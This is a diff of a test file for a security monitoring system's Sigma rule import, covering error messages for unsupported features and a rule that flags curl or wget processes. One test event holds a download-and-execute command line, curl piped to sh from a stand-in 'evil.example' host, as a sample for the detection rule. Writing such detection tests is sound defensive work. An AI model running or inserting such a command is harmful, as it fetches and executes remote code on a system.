@@ -27,7 +27,7 @@ describe('importing Sigma rules', () => {
     const before = (await s.db.pool.query('SELECT count(*)::int AS n FROM rules')).rows[0].n;
     const r = await api(s, 'POST', '/rules', { type: 'sigma', yaml: 'title: x\ndetection:\n  sel:\n    CommandLine|expand: "%svc%"\n  condition: sel\n' });
     expect(r.status).toBe(400);
-    expect((r.body.error as Json).message).toContain('Sigma: the |expand modifier is not supported');
+    expect((r.body.error as Json).message).toContain('Sigma: the |expand modifier on "CommandLine|expand" is not supported');
     const agg = await api(s, 'POST', '/rules', { type: 'sigma', yaml: 'title: x\ndetection:\n  sel:\n    User: x\n  condition: sel | count() by SourceIp > 5\n' });
     expect(agg.status).toBe(400);
     expect((agg.body.error as Json).message).toContain('aggregation');
@@ -45,7 +45,7 @@ logsource:
   category: process_creation
 detection:
   scope:
-    category: ${cat}
+    run: ${cat}
   selection_img:
     Image|endswith: [/curl, /wget]
   selection_cli:
@@ -54,7 +54,8 @@ detection:
     ParentImage: /usr/lib/apt/methods/http
   condition: scope and all of selection_* and not filter_updates
 `);
-    const ev = (hostname: string, processname: string, commandline: string, parent = '/bin/bash') => ({ category: cat, hostname, processname, summary: `${processname} ran`, details: { commandline, parentprocessname: parent } });
+    // process_creation on linux reads MozDef's execve events.
+    const ev = (hostname: string, processname: string, commandline: string, parent = '/bin/bash') => ({ category: 'execve', hostname, processname, summary: `${processname} ran`, details: { run: cat, commandline, parentprocessname: parent } });
     await postEvents(s, [
       ev('ws-1', '/usr/bin/curl', 'curl -fsSL https://evil.example/i.sh | sh'),
       ev('ws-2', '/usr/bin/curl', 'curl -o out https://example.org/file'),
@@ -134,9 +135,6 @@ correlation:
     const cat = uniqueCategory('sigma-spray');
     const rule = await sigma(`title: Failed logon
 name: failed_logon
-logsource:
-  product: windows
-  service: security
 detection:
   selection:
     category: ${cat}
@@ -298,9 +296,9 @@ describe('testing Sigma drafts', () => {
     expect(res.status).toBe(200);
     const data = ((await res.json()) as { result: { data: Json } }).result.data;
     expect((data.alerts as Json[]).length).toBe(1);
-    const bad = await api(s, 'POST', '/rules/test', { rule: { type: 'sigma', yaml: yaml.replace('gte: 3', 'lt: 3') } });
+    const bad = await api(s, 'POST', '/rules/test', { rule: { type: 'sigma', yaml: yaml.replace('gte: 3', 'neq: 3') } });
     expect(bad.status).toBe(400);
-    expect((bad.body.error as Json).message).toContain('the correlation condition "lt" is not supported');
+    expect((bad.body.error as Json).message).toContain('the correlation condition "neq" is not supported');
     expect(await count()).toEqual(before);
   });
 });
